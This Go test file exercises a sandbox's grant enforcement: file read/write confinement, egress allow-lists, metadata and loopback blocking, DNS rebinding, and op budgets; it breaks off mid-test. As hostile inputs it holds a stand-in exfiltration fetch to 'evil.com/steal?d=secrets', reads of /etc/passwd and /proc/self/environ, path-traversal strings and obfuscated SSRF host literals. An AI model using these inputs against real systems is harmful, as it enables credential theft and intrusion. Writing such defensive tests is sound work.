package core_test

import (
	"fmt"
	"math"
	"net/netip"
	"path"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/internal/refworld"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// Every expected result, usage and journal line below is derived by hand
// from SPEC §1–7 and §10, never pasted from a run.

func op(kind string, args ...string) core.Op { return core.Op{Kind: kind, Args: args} }

// runAll runs ops in order on s and stops after the first hard result,
// which it includes: a later op would only meet the halt gate.
func runAll(s core.Sandbox, ops []core.Op) []core.Result {
	var out []core.Result
	for _, o := range ops {
		r := s.Run(o)
		out = append(out, r)
		if r.Hard {
			break
		}
	}
	return out
}

func fmtOp(o core.Op) string { return fmt.Sprintf("%s %q", o.Kind, o.Args) }

// The scenario defaults of SPEC §10.
var defaultBudgets = core.Budgets{MaxOps: 1000, MaxWall: 1000000, MaxOutputBytes: 1048576}
var defaultClock = scenario.TickClock{Start: 0, Step: 1}

// box is a reference sandbox over its own world.
type box struct {
	s *core.Reference
	w *refworld.World
}

func newBox(t *testing.T, g core.GrantSpec, w scenario.WorldSpec) box {
	t.Helper()
	grant, err := core.NewGrant(g)
	if err != nil {
		t.Fatal(err)
	}
	rw := refworld.New(w)
	return box{core.NewReference(grant, rw), rw}
}

// run runs o and fails the test unless the result is want.
func (b box) run(t *testing.T, o core.Op, want core.Result) {
	t.Helper()
	if diff := cmp.Diff(want, b.s.Run(o)); diff != "" {
		t.Errorf("Run(%s) mismatch (-want +got):\n%s", fmtOp(o), diff)
	}
}

func (b box) journal() []string {
	var out []string
	for _, e := range b.w.Journal() {
		out = append(out, e.String())
	}
	return out
}

// wantJournal fails the test unless the journal reads want, line by line.
// No lines and a nil want are the same.
func (b box) wantJournal(t *testing.T, want ...string) {
	t.Helper()
	if diff := cmp.Diff(want, b.journal(), cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("Journal() mismatch (-want +got):\n%s", diff)
	}
}

func (b box) wantUsage(t *testing.T, want core.Usage) {
	t.Helper()
	if diff := cmp.Diff(want, b.s.Usage()); diff != "" {
		t.Errorf("Usage() mismatch (-want +got):\n%s", diff)
	}
}

// addrEqual lets cmp compare the netip.Addr inside journal entries.
var addrEqual = cmpopts.EquateComparable(netip.Addr{})

func ok(data string) core.Result      { return core.Result{Kind: core.OK, Data: data} }
func soft(k core.Kind) core.Result    { return core.Result{Kind: k} }
func hard(k core.Kind) core.Result    { return core.Result{Kind: k, Hard: true} }
func mustAddr(s string) netip.Addr    { return netip.MustParseAddr(s) }
func addrs(ss ...string) []netip.Addr { return mapSlice(ss, mustAddr) }
func mapSlice[T, U any](in []T, f func(T) U) []U {
	out := make([]U, len(in))
	for i, v := range in {
		out[i] = f(v)
	}
	return out
}

// seedTrace is the worked trace of SPEC §10.
func seedTrace() (core.GrantSpec, scenario.WorldSpec, []core.Op, []core.Result) {
	g := core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: core.Budgets{MaxOps: 7, MaxWall: 1000000, MaxOutputBytes: 1048576},
	}
	w := scenario.WorldSpec{
		Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
		Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
		Clock:  defaultClock,
	}
	ops := []core.Op{
		op("fs_read", "/work/data.txt"),
		op("fs_read", "/etc/passwd"),
		op("fs_read", "/work/../etc/shadow"),
		op("fs_write", "/work/out/report.txt", "done"),
		op("fs_write", "/system/boot.cfg", "pwned"),
		op("net_fetch", "api.internal", "/status"),
		op("net_fetch", "evil.com", "/steal?d=secrets"),
		op("fs_read", "/work/data.txt"),
	}
	want := []core.Result{
		ok("hello"),
		soft(core.FSReadDenied),
		soft(core.PathTraversal),
		ok(""),
		soft(core.FSWriteDenied),
		ok("ok"),
		soft(core.EgressDenied),
		hard(core.MaxOps),
	}
	return g, w, ops, want
}

func TestSeedTrace(t *testing.T) {
	g, w, ops, want := seedTrace()
	b := newBox(t, g, w)
	if diff := cmp.Diff(want, runAll(b.s, ops)); diff != "" {
		t.Errorf("runAll(seed trace) mismatch (-want +got):\n%s", diff)
	}
	// Each fs op that passes its lexical checks resolves its path first
	// (SPEC §5 step 4): without links, to Clean(p).
	b.wantJournal(t,
		"realpath /work/data.txt -> /work/data.txt",
		"read /work/data.txt",
		"realpath /work/out/report.txt -> /work/out/report.txt",
		"write /work/out/report.txt done",
		"resolve api.internal -> 203.0.113.1",
		"fetch api.internal 203.0.113.1 /status",
	)
	// Op 8 halts at the op charge, before the clock read: the last read was
	// op 7's, at tick 7. Output: "hello" and "ok".
	b.wantUsage(t, core.Usage{Ops: 8, Wall: 7, Output: 7})
	wantFiles := map[string]string{"/work/data.txt": "hello", "/work/out/report.txt": "done"}
	if diff := cmp.Diff(wantFiles, b.w.Files()); diff != "" {
		t.Errorf("final Files() mismatch (-want +got):\n%s", diff)
	}
}

func TestHaltLatched(t *testing.T) {
	b := newBox(t, core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/"}, Tools: []string{"echo"},
		Budgets: core.Budgets{MaxOps: 2, MaxWall: 1000, MaxOutputBytes: 1000},
	}, scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "x"}}, Clock: defaultClock})
	if n := b.w.ClockReads(); n != 1 {
		t.Fatalf("ClockReads after NewReference = %d, want 1 (t0)", n)
	}
	b.run(t, op("fs_read", "/work/a"), ok("x"))
	b.run(t, op("fs_read", "/work/a"), ok("x"))
	b.run(t, op("fs_read", "/work/a"), hard(core.MaxOps))
	usage, reads, fp := b.s.Usage(), b.w.ClockReads(), b.w.Fingerprint()
	b.wantUsage(t, core.Usage{Ops: 3, Wall: 2, Output: 2})
	if reads != 3 {
		t.Errorf("ClockReads = %d, want 3: t0 and ops 1-2; op 3 halts before reading", reads)
	}
	// Every later op, legal or not, gets the same hard result and costs
	// nothing: no charge, no clock read, no world call.
	for _, o := range []core.Op{
		op("fs_read", "/work/a"),
		op("fs_write", "/work/b", "d"),
		op("tool", "echo", "hi"),
		op("fs_read", "/etc/passwd"),
		op("exec", "sh"),
		op("fs_read"),
	} {
		b.run(t, o, hard(core.MaxOps))
	}
	if b.s.Usage() != usage {
		t.Errorf("usage moved after the halt: %+v, was %+v", b.s.Usage(), usage)
	}
	if b.w.ClockReads() != reads {
		t.Errorf("the clock was read after the halt: %d reads, was %d", b.w.ClockReads(), reads)
	}
	if b.w.Fingerprint() != fp {
		t.Errorf("the VFS changed after the halt")
	}
	b.wantJournal(t, "realpath /work/a -> /work/a", "read /work/a", "realpath /work/a -> /work/a", "read /work/a")
}

func TestDeniedWriteLeavesVFS(t *testing.T) {
	b := newBox(t, core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"}, Budgets: defaultBudgets,
	}, scenario.WorldSpec{Files: []scenario.File{
		{Path: "/work/a", Data: "orig"},
		{Path: "/work/out/r", Data: "old"},
		{Path: "/etc/passwd", Data: "root:x:0:0"},
	}, Clock: defaultClock})
	before, fp := b.w.Files(), b.w.Fingerprint()
	tests := []struct {
		o      core.Op
		want   core.Kind
		reason string
	}{
		{op("fs_write", "/work/a", "pwned"), core.FSWriteDenied, "under fs_read only"},
		{op("fs_write", "/etc/passwd", "pwned"), core.FSWriteDenied, "outside absolute"},
		{op("fs_write", "/system/boot.cfg", "pwned"), core.FSWriteDenied, "the trace's denied write"},
		{op("fs_write", "/work/outside", "x"), core.FSWriteDenied, "prefix sibling of /work/out/"},
		{op("fs_write", "/work/out2/x", "x"), core.FSWriteDenied, "prefix sibling of /work/out/"},
		{op("fs_write", "work/out/x", "x"), core.FSWriteDenied, "relative"},
		{op("fs_write", "", "x"), core.FSWriteDenied, "empty path: Clean gives '.'"},
		{op("fs_write", "/", "x"), core.FSWriteDenied, "the root directory"},
		{op("fs_write", "/work/out/../a", "pwned"), core.PathTraversal, "'..' segment"},
		{op("fs_write", "/work/out/../../etc/passwd", "pwned"), core.PathTraversal, "'..' segments"},
		{op("fs_write", `/work/out/..\..\etc\passwd`, "pwned"), core.PathTraversal, `'..' between '\' separators`},
		{op("fs_write", "/work/out/x/..", "pwned"), core.PathTraversal, "traversal even though Clean stays inside"},
		{op("fs_write", "/work/out/x\x00", "d"), core.MalformedOp, "NUL in the path"},
		{op("fs_write", "/work/out/x", "\xff"), core.MalformedOp, "invalid UTF-8 in the data"},
		{op("fs_write", "/work/out/x"), core.MalformedOp, "missing data"},
		{op("FS_WRITE", "/work/out/x", "d"), core.UnknownOp, "unknown kind"},
	}
	for i, tt := range tests {
		b.run(t, tt.o, soft(tt.want))
		if diff := cmp.Diff(before, b.w.Files()); diff != "" {
			t.Errorf("%s (%s) changed the VFS (-before +after):\n%s", fmtOp(tt.o), tt.reason, diff)
		}
		if b.w.Fingerprint() != fp {
			t.Errorf("%s (%s) changed the VFS fingerprint", fmtOp(tt.o), tt.reason)
		}
		if n := b.w.JournalLen(); n != 0 {
			t.Errorf("%s (%s) journaled: %q", fmtOp(tt.o), tt.reason, b.journal())
		}
		b.wantUsage(t, core.Usage{Ops: int64(i + 1), Wall: int64(i + 1)})
	}
	// Controls: allowed writes do change the VFS, stored at the canonical
	// path: realpath is journaled with the path as given, the write with
	// the path it resolved to.
	b.run(t, op("fs_write", "/work/out/r", "new"), ok(""))
	b.run(t, op("fs_write", "/work/out//r2/", "two"), ok(""))
	b.run(t, op("fs_write", "/work/out", "dir"), ok(""))
	if b.w.Fingerprint() == fp {
		t.Errorf("allowed writes left the fingerprint unchanged")
	}
	want := map[string]string{
		"/work/a": "orig", "/etc/passwd": "root:x:0:0",
		"/work/out/r": "new", "/work/out/r2": "two", "/work/out": "dir",
	}
	if diff := cmp.Diff(want, b.w.Files()); diff != "" {
		t.Errorf("Files() after allowed writes mismatch (-want +got):\n%s", diff)
	}
	b.wantJournal(t,
		"realpath /work/out/r -> /work/out/r", "write /work/out/r new",
		"realpath /work/out//r2/ -> /work/out/r2", "write /work/out/r2 two",
		"realpath /work/out -> /work/out", "write /work/out dir")
}

func TestDeniedEgressNoNetwork(t *testing.T) {
	b := newBox(t, core.GrantSpec{NetHosts: []string{"api.internal"}, Budgets: defaultBudgets},
		scenario.WorldSpec{
			Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}, {Host: "evil.com", Path: "/", Body: "x"}},
			Clock:  defaultClock,
		})
	for _, host := range []string{
		"evil.com", "API.INTERNAL", "Api.internal", "api.internal.", "api.internal:443",
		"user@api.internal", "api.internal@evil.com", " api.internal", "api.internal\t",
		"api.internal/x", "169.254.169.254", "localhost", "127.0.0.1", "", "api.internal\u200b",
	} {
		b.run(t, op("net_fetch", host, "/status"), soft(core.EgressDenied))
	}
	b.wantJournal(t) // no resolve, no fetch
	b.run(t, op("net_fetch", "api.internal", "/status"), ok("ok"))
	b.wantJournal(t, "resolve api.internal -> 203.0.113.1", "fetch api.internal 203.0.113.1 /status")
}

func TestReadConfinement(t *testing.T) {
	b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: defaultBudgets}, scenario.WorldSpec{
		Files: []scenario.File{
			{Path: "/work/a", Data: "A"},
			{Path: "/work/..hidden", Data: "H"},
			{Path: "/work/te..st", Data: "T"},
			{Path: "/workshop/x", Data: "S"},
			{Path: "/work2", Data: "2"},
			{Path: "/work.bak/x", Data: "B"},
			{Path: "/etc/passwd", Data: "P"},
		},
		Clock: defaultClock,
	})
	tests := []struct {
		p      string
		want   core.Result
		reason string
	}{
		{"/workshop/x", soft(core.FSReadDenied), "prefix sibling, even though the file exists"},
		{"/work2", soft(core.FSReadDenied), "prefix sibling"},
		{"/work.bak/x", soft(core.FSReadDenied), "prefix sibling"},
		{"/etc/passwd", soft(core.FSReadDenied), "outside absolute"},
		{"/", soft(core.FSReadDenied), "the root directory"},
		{"/proc/self/environ", soft(core.FSReadDenied), "outside absolute"},
		{"work/a", soft(core.FSReadDenied), "relative"},
		{"./a", soft(core.FSReadDenied), "relative"},
		{"", soft(core.FSReadDenied), "empty path"},
		{"/work/../etc/passwd", soft(core.PathTraversal), "traversal"},
		{`\work\..\etc\passwd`, soft(core.PathTraversal), "backslash traversal is judged before the allow-list"},
		{"/work/..hidden", ok("H"), "'..hidden' is a name, readable when it exists"},
		{"/work/te..st", ok("T"), "'te..st' is a name"},
		{"//work//a", ok("A"), "read at Canonical: /work/a"},
		{"/work/./a", ok("A"), "read at Canonical: /work/a"},
		{"/work/a/", ok("A"), "read at Canonical: /work/a"},
		{"/work/%2e%2e/etc/passwd", soft(core.NotFound), "encodings are literal: permitted, and nothing is there"},
		{"/work/\uff0e\uff0e/etc/passwd", soft(core.NotFound), "fullwidth dots are literal"},
		{"/work/\u2024\u2024/etc/passwd", soft(core.NotFound), "one-dot leaders are literal"},
		{"/work/missing", soft(core.NotFound), "permitted, nothing there"},
	}
	var journal []string
	for _, tt := range tests {
		b.run(t, op("fs_read", tt.p), tt.want)
		// A read past the lexical checks resolves the path as given, then
		// reads what it resolved to: Clean(p), in a world without links.
		if tt.want.Kind == core.OK || tt.want.Kind == core.NotFound {
			r := path.Clean(tt.p)
			journal = append(journal,
				refworld.Entry{Call: refworld.CallRealpath, Name: tt.p, Arg: r}.String(),
				refworld.Entry{Call: refworld.CallRead, Name: r}.String())
		}
	}
	b.wantJournal(t, journal...)
}

func TestDeterministic(t *testing.T) {
	g := core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"rebind.example", "api.internal"}, Tools: []string{"echo", "summarize"},
		Budgets: core.Budgets{MaxOps: 12, MaxWall: 100, MaxOutputBytes: 100},
	}
	w := scenario.WorldSpec{
		Files:  []scenario.File{{Path: "/work/a", Data: "hello"}},
		Routes: []scenario.Route{{Host: "rebind.example", Path: "/", Body: "body"}},
		DNS:    []scenario.DNSRecord{{Host: "rebind.example", Addrs: addrs("203.0.113.9", "127.0.0.1")}},
		Clock:  scenario.TickClock{Start: 3, Step: 2},
	}
	ops := []core.Op{
		op("fs_read", "/work/a"), op("net_fetch", "rebind.example", "/"), op("net_fetch", "rebind.example", "/"),
		op("fs_write", "/work/out/x", "1"), op("tool", "summarize", "abc"), op("exec"),
		op("net_fetch", "api.internal", "/"), op("fs_read", "/work/out/x"), op("tool", "echo", "e"),
		op("fs_read", "/etc/passwd"), op("net_fetch", "rebind.example", "/"), op("fs_read", "/work/a"),
		op("fs_read", "/work/a"), op("fs_read", "/work/a"),
	}
	type trace struct {
		Results []core.Result
		Usage   core.Usage
		Journal []refworld.Entry
		Files   map[string]string
		Reads   int64
	}
	do := func() trace {
		b := newBox(t, g, w)
		res := runAll(b.s, ops)
		return trace{res, b.s.Usage(), slices.Clone(b.w.Journal()), b.w.Files(), b.w.ClockReads()}
	}
	first, second := do(), do()
	if diff := cmp.Diff(first, second, addrEqual); diff != "" {
		t.Errorf("two runs of the same scenario differ (-first +second):\n%s", diff)
	}
	// And the run is the one the SPEC predicts, so equality is not vacuous.
	if n := len(first.Results); n != 13 || first.Results[12] != hard(core.MaxOps) {
		t.Errorf("results = %+v, want 13 with max_ops last", first.Results)
	}
}

func TestBudgetsOfZero(t *testing.T) {
	files := []scenario.File{{Path: "/work/a", Data: "x"}, {Path: "/work/empty", Data: ""}}
	t.Run("max_ops 0", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxWall: 10, MaxOutputBytes: 10}},
			scenario.WorldSpec{Files: files, Clock: defaultClock})
		b.run(t, op("fs_read", "/work/a"), hard(core.MaxOps))
		b.wantUsage(t, core.Usage{Ops: 1})
		b.wantJournal(t)
		if n := b.w.ClockReads(); n != 1 {
			t.Errorf("ClockReads = %d, want 1: the max_ops halt comes before the clock read", n)
		}
	})
	t.Run("max_output_bytes 0", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 10, MaxWall: 10}},
			scenario.WorldSpec{Files: files, Clock: defaultClock})
		b.run(t, op("fs_read", "/work/empty"), ok(""))
		b.run(t, op("fs_read", "/work/empty"), ok(""))
		b.run(t, op("fs_read", "/work/a"), hard(core.MaxOutputBytes))
		b.run(t, op("fs_read", "/work/empty"), hard(core.MaxOutputBytes))
		b.wantUsage(t, core.Usage{Ops: 3, Wall: 3, Output: 0})
		// The halt keeps the read that produced the refused byte.
		b.wantJournal(t,
			"realpath /work/empty -> /work/empty", "read /work/empty",
			"realpath /work/empty -> /work/empty", "read /work/empty",
			"realpath /work/a -> /work/a", "read /work/a")
	})
	t.Run("max_wall 0, step 1", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 10, MaxOutputBytes: 10}},
			scenario.WorldSpec{Files: files, Clock: defaultClock})
		b.run(t, op("fs_read", "/work/a"), hard(core.MaxWall))
		b.wantUsage(t, core.Usage{Ops: 1, Wall: 1})
		b.wantJournal(t)
	})
	t.Run("max_wall 0, step 0", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 10, MaxOutputBytes: 10}},
			scenario.WorldSpec{Files: files, Clock: scenario.TickClock{Start: 42, Step: 0}})
		b.run(t, op("fs_read", "/work/a"), ok("x"))
		b.run(t, op("fs_read", "/work/a"), ok("x"))
		b.wantUsage(t, core.Usage{Ops: 2, Wall: 0, Output: 2})
	})
}

func TestBudgetBoundaries(t *testing.T) {
	t.Run("max_ops counts denied ops", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 3, MaxWall: 100, MaxOutputBytes: 100}},
			scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "x"}}, Clock: defaultClock})
		b.run(t, op("fs_read", "/etc/passwd"), soft(core.FSReadDenied))
		b.run(t, op("exec"), soft(core.UnknownOp))
		b.run(t, op("fs_read"), soft(core.MalformedOp))
		b.wantUsage(t, core.Usage{Ops: 3, Wall: 3})
		b.run(t, op("fs_read", "/work/a"), hard(core.MaxOps))
		b.wantJournal(t)
	})
	t.Run("max_wall exactly reached", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 100, MaxWall: 6, MaxOutputBytes: 100}},
			scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "x"}}, Clock: scenario.TickClock{Start: 100, Step: 3}})
		b.run(t, op("fs_read", "/work/a"), ok("x")) // wall 3
		b.run(t, op("fs_read", "/work/a"), ok("x")) // wall 6: on the cap, allowed
		b.run(t, op("fs_read", "/work/a"), hard(core.MaxWall))
		b.wantUsage(t, core.Usage{Ops: 3, Wall: 9, Output: 2})
		b.wantJournal(t, "realpath /work/a -> /work/a", "read /work/a", "realpath /work/a -> /work/a", "read /work/a")
	})
	t.Run("output exactly on the cap", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 100, MaxWall: 100, MaxOutputBytes: 10}},
			scenario.WorldSpec{Files: []scenario.File{{Path: "/work/five", Data: "hello"}, {Path: "/work/one", Data: "!"}, {Path: "/work/none"}}, Clock: defaultClock})
		b.run(t, op("fs_read", "/work/five"), ok("hello"))
		b.run(t, op("fs_read", "/work/five"), ok("hello")) // 10: on the cap
		b.run(t, op("fs_read", "/work/none"), ok(""))      // 10 + 0 is not over
		b.run(t, op("fs_read", "/work/one"), hard(core.MaxOutputBytes))
		b.run(t, op("fs_read", "/work/none"), hard(core.MaxOutputBytes))
		b.wantUsage(t, core.Usage{Ops: 4, Wall: 4, Output: 10})
		b.wantJournal(t,
			"realpath /work/five -> /work/five", "read /work/five",
			"realpath /work/five -> /work/five", "read /work/five",
			"realpath /work/none -> /work/none", "read /work/none",
			"realpath /work/one -> /work/one", "read /work/one")
	})
	t.Run("one byte over in one read", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: core.Budgets{MaxOps: 100, MaxWall: 100, MaxOutputBytes: 4}},
			scenario.WorldSpec{Files: []scenario.File{{Path: "/work/five", Data: "hello"}}, Clock: defaultClock})
		b.run(t, op("fs_read", "/work/five"), hard(core.MaxOutputBytes))
		b.wantUsage(t, core.Usage{Ops: 1, Wall: 1, Output: 0})
		b.wantJournal(t, "realpath /work/five -> /work/five", "read /work/five")
	})
	t.Run("tool and fetch output are charged", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{
			NetHosts: []string{"api.internal"}, Tools: []string{"echo"},
			Budgets: core.Budgets{MaxOps: 100, MaxWall: 100, MaxOutputBytes: 10},
		}, scenario.WorldSpec{Routes: []scenario.Route{{Host: "api.internal", Path: "/big", Body: "0123456789X"}}, Clock: defaultClock})
		b.run(t, op("tool", "echo", "0123456"), ok("0123456"))
		b.run(t, op("net_fetch", "api.internal", "/big"), hard(core.MaxOutputBytes))
		b.wantUsage(t, core.Usage{Ops: 2, Wall: 2, Output: 7})
		// The halt keeps the permitted effect that produced the bytes.
		b.wantJournal(t, "call echo 0123456", "resolve api.internal -> 203.0.113.1", "fetch api.internal 203.0.113.1 /big")
	})
	t.Run("tool output one byte over", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{Tools: []string{"echo"}, Budgets: core.Budgets{MaxOps: 100, MaxWall: 100, MaxOutputBytes: 3}},
			scenario.WorldSpec{Clock: defaultClock})
		b.run(t, op("tool", "echo", "abc"), ok("abc"))
		b.run(t, op("tool", "echo", "d"), hard(core.MaxOutputBytes))
		b.wantJournal(t, "call echo abc", "call echo d")
	})
}

func TestEgressInternal(t *testing.T) {
	t.Run("granted host whose dns line answers metadata", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{NetHosts: []string{"api.internal"}, Budgets: defaultBudgets}, scenario.WorldSpec{
			Routes: []scenario.Route{{Host: "api.internal", Path: "/latest", Body: "creds"}},
			DNS:    []scenario.DNSRecord{{Host: "api.internal", Addrs: addrs("169.254.169.254")}},
			Clock:  defaultClock,
		})
		b.run(t, op("net_fetch", "api.internal", "/latest"), soft(core.EgressInternal))
		b.wantJournal(t, "resolve api.internal -> 169.254.169.254")
	})
	t.Run("dns lines are case- and trailing-dot-insensitive", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{NetHosts: []string{"api.internal"}, Budgets: defaultBudgets}, scenario.WorldSpec{
			Routes: []scenario.Route{{Host: "api.internal", Path: "/", Body: "x"}},
			DNS:    []scenario.DNSRecord{{Host: "API.Internal.", Addrs: addrs("10.0.0.1")}},
			Clock:  defaultClock,
		})
		b.run(t, op("net_fetch", "api.internal", "/"), soft(core.EgressInternal))
		b.wantJournal(t, "resolve api.internal -> 10.0.0.1")
	})
	t.Run("a dns line wins over a literal", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{NetHosts: []string{"127.0.0.1", "localhost"}, Budgets: defaultBudgets}, scenario.WorldSpec{
			Routes: []scenario.Route{{Host: "127.0.0.1", Path: "/", Body: "a"}, {Host: "localhost", Path: "/", Body: "b"}},
			DNS: []scenario.DNSRecord{
				{Host: "127.0.0.1", Addrs: addrs("203.0.113.7")},
				{Host: "localhost", Addrs: addrs("203.0.113.8")},
			},
			Clock: defaultClock,
		})
		b.run(t, op("net_fetch", "127.0.0.1", "/"), ok("a"))
		b.run(t, op("net_fetch", "localhost", "/"), ok("b"))
		b.wantJournal(t,
			"resolve 127.0.0.1 -> 203.0.113.7", "fetch 127.0.0.1 203.0.113.7 /",
			"resolve localhost -> 203.0.113.8", "fetch localhost 203.0.113.8 /")
	})
	// Granted hosts that resolve, with no dns line, to an internal address.
	tests := []struct {
		host, addr string
		reason     string
	}{
		{"2130706433", "127.0.0.1", "decimal IP literal"},
		{"127.1", "127.0.0.1", "short IP literal"},
		{"0x7f.0.0.1", "127.0.0.1", "hex IP literal"},
		{"0177.0.0.1", "127.0.0.1", "octal IP literal"},
		{"0x7f000001", "127.0.0.1", "one hex part"},
		{"0", "0.0.0.0", "the unspecified address in one part"},
		{"10.0.0.1", "10.0.0.1", "RFC 1918"},
		{"169.254.169.254", "169.254.169.254", "metadata literal"},
		{"100.100.100.200", "100.100.100.200", "Alibaba metadata literal"},
		{"fd00:ec2::254", "fd00:ec2::254", "AWS IPv6 metadata literal"},
		{"[::1]", "::1", "bracketed IPv6 loopback"},
		{"::ffff:127.0.0.1", "::ffff:127.0.0.1", "IPv4-mapped loopback"},
		{"64:ff9b::a9fe:a9fe", "64:ff9b::a9fe:a9fe", "NAT64 metadata"},
		{"[fe80::1%eth0]", "fe80::1%eth0", "link-local with a zone"},
		{"localhost", "127.0.0.1", "localhost"},
		{"LOCALHOST.", "127.0.0.1", "localhost, case and trailing dot"},
		{"a.localhost", "127.0.0.1", "*.localhost"},
		{"metadata.google.internal", "169.254.169.254", "metadata name"},
		{"metadata", "169.254.169.254", "metadata name"},
		{"instance-data", "169.254.169.254", "metadata name"},
	}
	for _, tt := range tests {
		b := newBox(t, core.GrantSpec{NetHosts: []string{tt.host}, Budgets: defaultBudgets}, scenario.WorldSpec{
			Routes: []scenario.Route{{Host: tt.host, Path: "/", Body: "secret"}},
			Clock:  defaultClock,
		})
		if diff := cmp.Diff(soft(core.EgressInternal), b.s.Run(op("net_fetch", tt.host, "/"))); diff != "" {
			t.Errorf("net_fetch %q (%s) mismatch (-want +got):\n%s", tt.host, tt.reason, diff)
		}
		want := refworld.Entry{Call: refworld.CallResolve, Name: tt.host, Addr: mustAddr(tt.addr)}
		if diff := cmp.Diff([]refworld.Entry{want}, b.w.Journal(), addrEqual); diff != "" {
			t.Errorf("net_fetch %q (%s): Journal() mismatch (-want +got):\n%s", tt.host, tt.reason, diff)
		}
	}
	t.Run("public literal control", func(t *testing.T) {
		b := newBox(t, core.GrantSpec{NetHosts: []string{"8.8.8.8"}, Budgets: defaultBudgets}, scenario.WorldSpec{
			Routes: []scenario.Route{{Host: "8.8.8.8", Path: "/", Body: "dns"}}, Clock: defaultClock,
		})
		b.run(t, op("net_fetch", "8.8.8.8", "/"), ok("dns"))
		b.run(t, op("net_fetch", "8.8.8.8", "/missing"), soft(core.NotFound))
		b.wantJournal(t, "resolve 8.8.8.8 -> 8.8.8.8", "fetch 8.8.8.8 8.8.8.8 /",
			"resolve 8.8.8.8 -> 8.8.8.8", "fetch 8.8.8.8 8.8.8.8 /missing")
	})
}

func TestRebinding(t *testing.T) {
	b := newBox(t, core.GrantSpec{NetHosts: []string{"rebind.example"}, Budgets: defaultBudgets}, scenario.WorldSpec{
		Routes: []scenario.Route{{Host: "rebind.example", Path: "/x", Body: "body"}},
		DNS:    []scenario.DNSRecord{{Host: "rebind.example", Addrs: addrs("203.0.113.9", "127.0.0.1")}},
		Clock:  defaultClock,
	})
	fetch := op("net_fetch", "rebind.example", "/x")
	b.run(t, fetch, ok("body"))
	b.run(t, fetch, soft(core.EgressInternal))
	b.run(t, fetch, ok("body")) // the answers cycle
	b.run(t, fetch, soft(core.EgressInternal))
	b.wantJournal(t,
		"resolve rebind.example -> 203.0.113.9",
		"fetch rebind.example 203.0.113.9 /x",
		"resolve rebind.example -> 127.0.0.1",
		"resolve rebind.example -> 203.0.113.9",
		"fetch rebind.example 203.0.113.9 /x",
		"resolve rebind.example -> 127.0.0.1",
	)
	// Exactly one resolve per fetch op, and each fetch uses the address of
	// the resolve just before it.
	resolves := 0
	var last netip.Addr
	for _, e := range b.w.Journal() {
		switch e.Call {
		case refworld.CallResolve:
			resolves++
			last = e.Addr
		case refworld.CallFetch:
			if e.Addr != last {
				t.Errorf("fetch to %v after resolve to %v", e.Addr, last)
			}
		}
	}
	if resolves != 4 {
		t.Errorf("%d resolves for 4 fetch ops, want 4", resolves)
	}
}

func TestUnknownOp(t *testing.T) {
	b := newBox(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: defaultBudgets},
		scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "x"}}, Clock: defaultClock})
	kinds := []string{
		"exec", "FS_READ", "fs_read ", " fs_read", "Fs_read", "", "fs_read\x00", "fs-read",
		"read", "netfetch", "tool\n", "\xff", "fs_rea", "fs_readd", "TOOL",
	}
	for i, k := range kinds {
		b.run(t, op(k, "/work/a"), soft(core.UnknownOp))
		b.wantUsage(t, core.Usage{Ops: int64(i + 1), Wall: int64(i + 1)})
	}
	// Unknown comes before malformed in dispatch.
	b.run(t, op("exec", "a\x00", "b", "c"), soft(core.UnknownOp))
	b.run(t, core.Op{Kind: "exec"}, soft(core.UnknownOp))
	b.wantJournal(t)
	b.wantUsage(t, core.Usage{Ops: int64(len(kinds) + 2), Wall: int64(len(kinds) + 2)})
}

func TestMalformedOp(t *testing.T) {
	b := newBox(t, core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"echo"}, Budgets: defaultBudgets,
	}, scenario.WorldSpec{
		Files:  []scenario.File{{Path: "/work/a", Data: "x"}},
		Routes: []scenario.Route{{Host: "api.internal", Path: "/", Body: "b"}},
		Clock:  defaultClock,
	})
	fp := b.w.Fingerprint()
	ops := []core.Op{
		// Wrong arity.
		op("fs_read"), op("fs_read", "/work/a", "/work/a"),
		op("fs_write", "/work/b"), op("fs_write", "/work/b", "d", "e"), op("fs_write"),
		op("net_fetch", "api.internal"), op("net_fetch", "api.internal", "/", "x"), op("net_fetch"),
		op("tool", "echo"), op("tool", "echo", "in", "x"), op("tool"),
		{Kind: "fs_read", Args: []string{}},
